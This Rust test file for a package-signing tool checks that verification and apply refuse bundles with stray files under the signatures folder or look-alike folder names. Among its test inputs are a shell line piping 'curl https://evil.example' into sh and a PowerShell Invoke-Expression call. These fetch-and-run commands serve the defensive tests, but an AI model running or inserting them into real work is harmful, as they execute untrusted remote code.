//! Files of somebody else below `signatures/` in a bundle that a trusted key signed: none is passed over, whatever it is
//! called.

use super::*;

/// The signed bundle with one more file behind it.
fn with(signed: &[Entry], name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut tail: Vec<Entry> = signed.iter().filter(|it| it.name.starts_with("signatures/")).cloned().collect();
    tail.push(Entry::new(name, bytes.to_vec()));
    tail.sort_by(|a, b| a.name.cmp(&b.name));
    archive::append(&bench().read("it.dvpack"), &tail).expect("appended")
}

#[test]
fn a_foreign_name_among_the_signatures_is_refused_by_every_verb_that_trusts_a_key() {
    let bench = bench();
    let signed = archive::read(&bench.read("p256.dvpack"), &Limits::default()).expect("read");
    let own = bench.digest("p256")[..16].to_owned();
    let file = |end: &str| {
        let name = format!("signatures/{own}{end}");
        signed.iter().find(|it| it.name == name).unwrap_or_else(|| panic!("no {name}")).bytes.clone()
    };
    let (signature, key, other) = (file(".sigstore.json"), file(".pub.pem"), bench.read("other.pub"));
    let cases: [(String, &[u8]); 15] = [
        ("signatures/readme.txt".to_owned(), b"see https://evil.example"),
        ("signatures/apply.sh".to_owned(), b"#!/bin/sh\ncurl https://evil.example | sh\n"),
        ("signatures/Apply-Package.ps1".to_owned(), b"Invoke-Expression $env:X"),
        ("signatures/more.zip".to_owned(), b"PK\x05\x06"),
        ("signatures/.hidden".to_owned(), b"x"),
        ("signatures/SHA256SUMS".to_owned(), b"x"),
        ("signatures/deep/0123456789abcdef.sigstore.json".to_owned(), &signature),
        (format!("signatures/{own}.sigstore.json.bak"), &signature),
        (format!("signatures/{own}.json"), &signature),
        ("signatures/release.sigstore.json".to_owned(), &signature),
        ("signatures/0123456789abcdeg.sigstore.json".to_owned(), &signature),
        ("signatures/0123456789abcdef0.sigstore.json".to_owned(), &signature),
        ("signatures/0123456789abcdef.pub.pem".to_owned(), &key),
        (format!("signatures/{}.pub.pem", &bench.digest("other")[..16]), &other),
        ("signatures/release.pub.pem".to_owned(), &key),
    ];
    for (name, bytes) in cases {
        let bytes = with(&signed, &name, bytes);
        for line in ["verify it.dvpack", "apply it.dvpack --sandbox --yes"] {
            let ran = bench.test(&bytes).args(line).args("--key p256.pub").code(3);
            assert!(ran.stderr.contains(&name), "{name}: {line}: {}", ran.stderr);
            assert!(!ran.stdout.contains("signed by a trusted key"), "{name}: {line}: {}", ran.stdout);
        }
    }
    // And without it the key vouches for the rest.
    bench.test(&bench.read("p256.dvpack")).args("verify it.dvpack --key p256.pub").success();
}

/// A folder whose name only looks like that of the signatures is no folder of signatures.
#[test]
fn another_folder_is_not_taken_for_that_of_the_signatures() {
    let bench = bench();
    let signed = archive::read(&bench.read("p256.dvpack"), &Limits::default()).expect("read");
    let signature = signed.iter().find(|it| it.name.ends_with(".sigstore.json")).expect("a signature").bytes.clone();
    let mut tried = 0;
    for name in [
        "Signatures/0123456789abcdef.sigstore.json",
        "signatures./0123456789abcdef.sigstore.json",
        "signatures /0123456789abcdef.sigstore.json",
        "signature/0123456789abcdef.sigstore.json",
        "x/signatures/0123456789abcdef.sigstore.json",
        "s\u{456}gnatures/0123456789abcdef.sigstore.json",
    ] {
        let mut entries: Vec<Entry> = archive::read(&bench.read("it.dvpack"), &Limits::default()).expect("read");
        entries.push(Entry::new(name, signature.clone()));
        // The writer itself refuses names that a system would change.
        let Ok(other) = archive::write(&entries) else { continue };
        tried += 1;
        let tail: Vec<Entry> = signed.iter().filter(|it| it.name.starts_with("signatures/")).cloned().collect();
        let bytes = archive::append(&other, &tail).expect("appended");
        let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").run();
        assert_eq!(ran.code, 3, "{name}: {}{}", ran.stdout, ran.stderr);
    }
    assert!(tried >= 3, "{tried}");
}
